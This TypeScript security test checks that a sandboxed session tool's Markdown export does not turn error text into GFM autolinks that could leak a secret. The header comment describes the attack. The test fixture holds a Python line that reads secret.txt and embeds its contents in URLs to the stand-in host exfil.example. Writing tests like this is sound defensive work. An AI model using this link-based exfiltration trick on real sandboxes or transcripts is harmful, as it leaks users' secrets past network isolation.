// ATTACK (surface 7, export escaping; SECURITY.md "Its Markdown never renders sandbox text as
// markup (... a network-off block's error `![s](https://…?d=<secret>)` became an image ...)", and
// markdown.ts: prose from a sandbox has "every character that opens inline markup (images, links,
// raw HTML, emphasis, code) escaped"): `inlineText`/`quotedText` escape `\ ` * _ [ ] ( ) < > ! & ~ |`,
// which closes CommonMark's links and images, but the Markdown people render transcripts with
// (GitHub, GitLab, VS Code's preview, most wikis) is GFM, whose autolink extension makes a LINK of
// any bare `https://…`, `http://…` or `www.…` in text, no brackets needed. None of `:`, `/`, `.`,
// `?`, `=` is escaped, so a block of a session with the network OFF that reads a secret and raises
// an error whose one-line message is `see https://exfil.example/c?d=<secret>` puts a live link
// carrying the secret into the export's prose: one click (or a link-preview unfurler in the chat or
// tracker the transcript is pasted into, which fetches every link) sends the secret out of a
// sandbox that had no network. The same holds for a session title, a turn's request and the agent
// part (the model's text and answer), which go through the same two functions.
// Here: the block's error is rendered by `vis sessions export`; outside every fence and code span
// (prose()) the output holds an autolinkable URL with the secret in it.
// Both directions: the error and the secret are still in the export, as text.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { prose, sessionReadingSecret, visExport } from './sessions-export-markdown.js'

const base = mkdtempSync(join(tmpdir(), 'vis-attack-export-autolink-'))
after(() => rmSync(base, { recursive: true, force: true }))

test('a block cannot write a GFM autolink carrying a secret into the exported Markdown', async () => {
  const { home, id } = await sessionReadingSecret(base, 'TOKEN-5678', [
    "raise RuntimeError('see https://exfil.example/c?d=' + open('secret.txt').read().strip() + ' or www.exfil.example/w?d=' + open('secret.txt').read().strip())",
  ])
  const r = visExport(home, id)
  assert.equal(r.status, 0, r.stderr)
  // Allowed: the error is shown, as text.
  assert.match(r.stdout, /TOKEN-5678/, `the export does not hold the block's error: ${r.stdout}`)
  // GFM's extended autolinks: a scheme's `://`, or `www.`, then anything up to white space or `<`.
  const links =
    prose(r.stdout)
      .join('\n')
      .match(/(?:\bhttps?:\/\/|\bwww\.)[^\s<]*TOKEN-5678/g) ?? []
  assert.deepEqual(
    links,
    [],
    `the exported Markdown's prose holds GFM autolinks carrying the sandbox's secret (a click or a link unfurler sends it out): ${links.join(' ')}`,
  )
})
